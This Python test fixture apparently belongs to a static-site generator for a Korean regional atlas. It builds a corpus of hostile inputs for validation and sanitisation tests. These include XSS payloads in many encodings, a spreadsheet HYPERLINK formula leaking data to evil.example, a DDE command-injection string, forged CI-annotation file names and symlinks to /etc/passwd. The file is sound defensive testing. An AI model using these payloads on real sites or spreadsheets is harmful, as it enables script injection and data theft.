"""The hostile corpus: what attackers and careless contributors put in a pull request, class by class.

Everything in ``data/`` and ``content/`` comes from strangers. Each class of problem found so far is
here, each in several encodings — as written, with YAML escapes (decoded by the YAML reader into the
real thing), as HTML entities, in mixed case and with Unicode look-alikes — for YAML text, front
matter, Markdown, file names and file types. Two kinds:

* ``REFUSED``: what `atlas validate` (and so every build) must refuse, each problem as a
  ``file:line: field: message`` line and never a traceback (tests/test_hostile_corpus.py runs them
  all in one project, as a pull request holding all of them at once);
* what is let through because it is harmless once escaped or sanitised (``YAML_PAYLOADS``,
  ``NARRATIVE``, ``PAGE``, the formulas, a byte-order mark and decomposed Hangul): built into one site
  (``hostile_site``), which tests/test_escaping.py reads back and tests/test_browser.py opens page by
  page in Chromium, clicking everything.

Every payload that could run tries to set ``window.__pwned``, change ``document.title`` or open an
``alert``, so a browser can tell.
"""
from __future__ import annotations

import json
import unicodedata
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Union

import pytest

from conftest import built_once, minimal_project, run_atlas

SCRIPT = "<script>window.__pwned=1</script>"
HANDLER = '<img src=x onerror="window.__pwned=2">'
JS_LINK = "javascript:window.__pwned=3"


def yaml_escaped(text: str) -> str:
    """A YAML double-quoted string that decodes to ``text``, every markup character escaped (\\x3c …)."""
    out = []
    for i, char in enumerate(text):
        if char in "<>\"'=:/":
            out.append(("\\x%02x" if i % 3 else "\\u%04x") % ord(char))
        elif char == "\\":
            out.append("\\\\")
        else:
            out.append(char)
    return '"' + "".join(out) + '"'


def entities(text: str) -> str:
    """Markup characters as HTML entities, in every form browsers read (&lt; &#60; &#x3C; &LT;)."""
    forms = {"<": ["&lt;", "&#60;", "&#x3C;", "&LT;"], ">": ["&gt;", "&#62;", "&#x3e;", "&GT;"], '"': ["&quot;"]}
    seen: dict[str, int] = {}
    out = []
    for char in text:
        if char in forms:
            n = seen.get(char, 0)
            seen[char] = n + 1
            out.append(forms[char][n % len(forms[char])])
        else:
            out.append(char)
    return "".join(out)


def mixed_case(text: str) -> str:
    return "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(text))


def look_alike(text: str) -> str:
    """Full-width and other look-alike characters that no browser reads as markup."""
    return text.translate(str.maketrans({"<": "\uff1c", ">": "\uff1e", "/": "\u2215", "=": "\uff1d", "s": "\u0455",
                                         "c": "\u0441", ":": "\uff1a"}))


ENCODINGS: dict[str, Callable[[str], str]] = {
    "plain": json.dumps, "yaml-escape": yaml_escaped, "mixed-case": lambda t: json.dumps(mixed_case(t)),
}
HARMLESS_ENCODINGS: dict[str, Callable[[str], str]] = {"html-entity": entities, "look-alike": look_alike}


# -- refused: each must give file:line problems, never a traceback ------------------------------

FileContent = Union[str, bytes, Callable[[Path], None]]


@dataclass(frozen=True)
class Refused:
    kind: str  # the class of problem
    encoding: str
    path: str  # where it is written, relative to the project
    content: FileContent  # text, bytes, or a function making the file (links)
    reported: bool = True  # False: valid itself, it names an entry that is not (not reported again)

    @property
    def id(self) -> str:
        return f"{self.kind}/{self.encoding}/{self.path}"


def _inst(slug: str, **fields: str) -> str:
    base = {"slug": slug, "type": "institution", "kind": "university", "name": "{ko: 시험, en: Test}",
            "regions": "[asan]", "location": "{lat: 36.7366, lon: 127.0747}", "description": "{ko: 설명}",
            "sources": "[test-source]"}
    base.update(fields)
    return "".join(f"{key}: {value}\n" for key, value in base.items())


def _event(slug: str, **fields: str) -> str:
    base = {"slug": slug, "type": "event", "kind": "forum", "name": "{ko: 행사}", "date": "2025-11-20",
            "regions": "[asan]", "summary": "{ko: 요약}", "sources": "[test-source]"}
    base.update(fields)
    return "".join(f"{key}: {value}\n" for key, value in base.items())


def _page(front: str, body: str = "# 쪽\n\n본문.\n") -> str:
    return f"---\n{front}\n---\n{body}"


def _symlink(target: str) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        path.symlink_to(target)
    return make


def _refused() -> list[Refused]:
    cases: list[Refused] = []
    n = 0

    def slug() -> str:
        nonlocal n
        n += 1
        return f"hostile-{n:02d}"

    # script in YAML text (entry text): refused as written, escaped or in mixed case
    for payload in (SCRIPT, HANDLER, f"[클릭]({JS_LINK})"):
        for encoding, encode in ENCODINGS.items():
            s = slug()
            cases.append(Refused("script in entry text", encoding, f"data/institutions/{s}.yml",
                                 _inst(s, description=f"{{ko: {encode(payload)}}}")))
    # script and reserved keys in front matter of hand-written pages
    for encoding, encode in ENCODINGS.items():
        cases.append(Refused("script in front matter", encoding, f"content/fm-title-{encoding}.md",
                             _page(f"title: {encode(SCRIPT)}")))
        cases.append(Refused("script in front matter", encoding, f"content/fm-desc-{encoding}.md",
                             _page(f"description: {encode(HANDLER)}")))
    for key in ("atlas_jsonld", "Atlas_JsonLD", "template", "atlas_feeds"):
        cases.append(Refused("reserved front-matter key", "yaml", f"content/fm-key-{key.lower()}.md",
                             _page(f"{key}: {yaml_escaped('</script><script>window.__pwned=4</script>')}")))
    cases.append(Refused("reserved front-matter key", "multimarkdown", "content/fm-multimarkdown.md",
                         "atlas_jsonld: x\ntitle: 쪽\n\n본문.\n"))
    # script in Markdown bodies (the validator names the plain forms; the sanitiser removes the rest)
    for encoding, body in (("plain", SCRIPT), ("mixed-case", mixed_case(SCRIPT)),
                           ("plain", f"[링크]({JS_LINK})"), ("mixed-case", f"[링크]({mixed_case(JS_LINK)})")):
        cases.append(Refused("script in Markdown", encoding, f"content/md-{len(cases)}.md", f"# 쪽\n\n{body}\n"))
    # file types in content/: by name (any case) and by contents
    for name, content in (("page.xht", f"<html>{SCRIPT}</html>"), ("page.xhtml", f"<html>{SCRIPT}</html>"),
                          ("page.html", SCRIPT), ("logo.svg", f"<svg onload=\"window.__pwned=5\">{SCRIPT}</svg>"),
                          ("app.js", "window.__pwned=6"), ("style.css", "body{}"), ("data.json", "{}"),
                          ("upper.XHT", SCRIPT), ("noext", SCRIPT),
                          ("fake.png", f"<html>{SCRIPT}</html>"), ("fake.pdf", f"<html>{SCRIPT}</html>")):
        cases.append(Refused("file type", "name" if "fake" not in name else "contents", f"content/assets/{name}",
                             content))
    # file names: a newline forging an annotation, look-alikes, mixed case, bidi controls
    for name in ("evil\n::error file=README.md,line=1::forged.yml", "\uff54\uff45\uff53\uff54.yml", "Mixed-Case.yml",
                 "rtl\u202elmy.yml", "spaced name.yml"):
        cases.append(Refused("file name", "data", f"data/events/{name}", _event("forged")))
    for name in ("evil\n::error file=README.md,line=1::forged.md", "About.md", "bidi\u202egnp.md"):
        cases.append(Refused("file name", "content", f"content/{name}", "# 쪽\n"))
    # symbolic links, files and folders, inside and outside the project, and loops
    cases += [
        Refused("symbolic link", "data file", "data/institutions/linked.yml", _symlink("hoseo-university.yml")),
        Refused("symbolic link", "data folder", "data/events/linked-folder", _symlink("/etc")),
        Refused("symbolic link", "content folder", "content/outside", _symlink("/etc")),
        Refused("symbolic link", "content loop", "content/loop", _symlink(".")),
        Refused("symbolic link", "content file", "content/passwd.md", _symlink("/etc/passwd")),
    ]
    # values that crashed the checks or corrupted the outputs
    s = slug()
    cases.append(Refused("referenced entry invalid", "kind", f"data/events/{s}.yml", _event(s, kind="forumm")))
    cases.append(Refused("referenced entry invalid", "part_of", f"data/events/{s}-mou.yml",
                         _event(f"{s}-mou", kind="mou-signing", part_of=s), reported=False))
    s = slug()
    cases.append(Refused("referenced entry invalid", "parent", f"data/regions/{s}.yml",
                         f"slug: {s}\ntype: region\nkind: cityy\nname: {{ko: 시}}\nadmin_codes: {{sigungu: ['44200']}}\n"
                         "summary: {ko: 요약}\nsources: [test-source]\n"))
    t = slug()
    cases.append(Refused("referenced entry invalid", "child", f"data/regions/{t}.yml",
                         f"slug: {t}\ntype: region\nkind: cluster\nname: {{ko: 시}}\nparent: {s}\n"
                         "admin_codes: {sigungu: ['44200']}\nsummary: {ko: 요약}\nsources: [test-source]\n",
                         reported=False))
    s = slug()
    cases.append(Refused("YAML the loader cannot build", "merge key", f"data/events/{s}.yml",
                         "base: &b {kind: forum}\n" + _event(s).replace("kind: forum\n", "<<: *b\n")))
    s = slug()
    cases.append(Refused("YAML the loader cannot build", "huge integer", f"data/events/{s}.yml",
                         _event(s, attendance="{value: " + "9" * 5000 + "}")))
    for encoding, value in (("yaml", ".inf"), ("exponent", "1e9999"), ("nan", ".NaN"), ("bool", "true")):
        s = slug()
        cases.append(Refused("number not finite", encoding, f"data/events/{s}.yml",
                             _event(s, attendance=f"{{value: {value}}}")))
    for encoding, text in (("yaml-escape", '"요약 \\uFFFE"'), ("yaml-escape", '"요약 \\x1b[2J"'),
                           ("yaml-escape", '"\\u202Efdp.exe"'), ("yaml-escape", '"반쪽 \\ud800"')):
        s = slug()
        cases.append(Refused("character XML or a terminal cannot hold", encoding, f"data/events/{s}.yml",
                             _event(s, summary=f"{{ko: {text}}}")))
    return cases


REFUSED = _refused()


def refused_project(tmp_path: Path) -> Path:
    """The minimal project with every refused case added at once."""
    project = minimal_project(tmp_path)
    for case in REFUSED:
        path = project / case.path
        path.parent.mkdir(parents=True, exist_ok=True)
        if callable(case.content):
            case.content(path)
        elif isinstance(case.content, bytes):
            path.write_bytes(case.content)
        else:
            path.write_text(case.content, encoding="utf-8")
    return project


# -- let through: harmless once escaped or sanitised, built into one site -----------------------

# Text fields of entries (YAML): printed as literal text on every page that shows them.
YAML_PAYLOADS = [
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "[클릭 click](https://evil.example/steal)",
    "<img src=x> <b>bold</b> <style>body{display:none}</style>",
    "<a href=&#106;avascript:window.__pwned=2>entity link</a>",
    "**bold** {: .evil #evil-id } `code` ~~strike~~",
    "\"' </title></textarea></script><b>breakout</b>",
    "{{ 7*7 }} {% raw %} ${alert(1)}",
    "<!-- atlas:narrative --> [^test-source] <https://evil.example>",
    "</script><svg><a href=&#x6A;avascript:document.title='pwned'>svg</a></svg>",
]
# the same attacks in the encodings that are let through: entities and look-alikes stay text
ENCODED_PAYLOADS = [encode(payload) for encode in HARMLESS_ENCODINGS.values() for payload in (SCRIPT, HANDLER)]

# Markdown narratives (content/…/<slug>.md): raw HTML, cleaned by the allow-list sanitiser.
NARRATIVE = """호서대학교 이야기 (narrative).

<a href="&#106;avascript:window.__pwned=3" id="entity-link">entity link</a>

<a href="jav&#x09;ascript:window.__pwned=4">tab link</a>

<a href="data&colon;text/html,&lt;script&gt;window.__pwned=5&lt;/script&gt;">data link</a>

<form action="&#106;avascript:window.__pwned=6"><button formaction="&#106;avascript:window.__pwned=7">submit</button></form>

<style>article { display: none }</style>

<svg width="100" height="30"><a xlink:href="&#106;avascript:window.__pwned=8"><text x="0" y="20">svg link</text></a></svg>

<math><maction actiontype="statusline" xlink:href="&#106;avascript:window.__pwned=9">math</maction></math>

<abbr title="&quot;&gt;&lt;script&gt;window.__pwned=10&lt;/script&gt;">abbr</abbr>

<details open><summary>요약 summary</summary>details</details>

<a href="https://example.org/" target="_blank">external link</a>

<div markdown="1">**markdown in html**</div>

<A HREF="&#X6A;AVASCRIPT:window.__pwned=11">upper-case entity link</A>

<a href="&#xFF4A;avascript:window.__pwned=12">full-width j</a>
"""

# A hand-written page: front matter and heading in the let-through encodings (text on the page)
PAGE_TITLE = entities("</title><script>window.__pwned=13</script>")
PAGE_DESCRIPTION = look_alike('"><script>window.__pwned=14</script>')
PAGE = f"""---
title: {json.dumps(PAGE_TITLE)}
description: {json.dumps(PAGE_DESCRIPTION)}
---
# {entities('<img src=x onerror=window.__pwned=15>')} 소개

본문 {look_alike(SCRIPT)}.
"""

FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"클릭")'
FORMULA_INSTITUTION = _inst("formula-lab", name="{ko: " + json.dumps(FORMULA_NAME) + ", en: \"+cmd|' /C calc'!A0\"}",
                            short_names='["@SUM(1+1)*cmd", "-2+3", "\\uff1d1+1"]',
                            location="{lat: 36.7901, lon: 127.0021}")


def hostile_project(tmp_path: Path) -> Path:
    """The minimal fixture with every let-through payload in entries, a narrative and a page."""
    project = minimal_project(tmp_path)
    p = YAML_PAYLOADS

    def edit(rel: str, old: str, new: str) -> None:
        path = project / rel
        text = path.read_text(encoding="utf-8")
        assert old in text, (rel, old)
        path.write_text(text.replace(old, new), encoding="utf-8")

    q = json.dumps  # a JSON string is a valid YAML string, quotes and all
    edit("data/institutions/hoseo-university.yml", "name: {ko: 호서대학교, en: Hoseo University}",
         f"name: {{ko: {q('호서대학교 ' + p[0])}, en: {q(p[1])}}}\n"
         f"short_names: [{', '.join(q(s) for s in [p[2], p[3], *ENCODED_PAYLOADS])}]")
    edit("data/institutions/hoseo-university.yml", "description: {ko: 아산의 사립대학, en: A private university in Asan}",
         f"description: {{ko: {q(p[4] + ' ' + p[5])}, en: {q(p[6] + ' ' + p[7] + ' ' + p[8])}}}")
    edit("data/events/test-forum.yml", "summary: {ko: 포럼 요약, en: Forum summary}",
         f"summary: {{ko: {q(p[5])}, en: {q(p[8])}}}")
    edit("data/regions/asan.yml", "summary: {ko: 아산시 요약, en: Asan summary}",
         f"summary: {{ko: {q(p[0] + ' ' + p[3])}, en: {q(p[1])}}}")
    edit("data/sources/test-source.yml", "reporter: 홍길동", f"reporter: {q(p[5])}")
    (project / "data/institutions/formula-lab.yml").write_text(FORMULA_INSTITUTION, encoding="utf-8")
    # benign variants: a byte-order mark (Windows editors) and decomposed Hangul (macOS), in YAML and Markdown
    region = project / "data/regions/chungnam.yml"
    region.write_bytes(b"\xef\xbb\xbf" + unicodedata.normalize("NFD", region.read_text(encoding="utf-8")).encode())
    narrative = project / "content/institutions/hoseo-university.md"
    narrative.parent.mkdir(parents=True, exist_ok=True)
    narrative.write_text(NARRATIVE, encoding="utf-8")
    (project / "content/about.md").write_bytes(b"\xef\xbb\xbf" + unicodedata.normalize("NFD", PAGE).encode())
    return project


# Pages where the payloads end up (Korean and English, entry pages and indexes); the browser test
# opens every HTML file of the site, these first.
HOSTILE_PAGES = [
    "institutions/hoseo-university/", "en/institutions/hoseo-university/", "events/test-forum/",
    "en/events/test-forum/", "regions/asan/", "en/regions/asan/", "institutions/", "events/", "sources/test-source/",
    "institutions/formula-lab/", "regions/chungnam/", "about/", "",
]


@pytest.fixture(scope="session")
def hostile_site(request, tmp_path_factory) -> Path:
    """The hostile project, built (strict) once per test run."""

    def build(folder: Path):
        project = hostile_project(folder)
        return run_atlas("build", "--site-dir", str(folder / "site"), cwd=project,
                         env={"SOURCE_DATE_EPOCH": "1763683200"})

    return built_once(request, tmp_path_factory, "hostile", build) / "site"


def site_pages(site: Path) -> list[str]:
    """Every HTML document of a built site as a URL path (``regions/asan/``, ``maps/place.html``)."""
    out = []
    for path in sorted(site.rglob("*.html")):
        rel = path.relative_to(site).as_posix()
        out.append(rel[: -len("index.html")] if rel.endswith("index.html") else rel)
    return sorted(set(out), key=lambda url: (url not in HOSTILE_PAGES, url))


__all__ = ["REFUSED", "Refused", "refused_project", "YAML_PAYLOADS", "ENCODED_PAYLOADS", "NARRATIVE", "PAGE",
           "PAGE_TITLE", "PAGE_DESCRIPTION", "FORMULA_NAME", "hostile_project", "HOSTILE_PAGES", "hostile_site",
           "site_pages"]
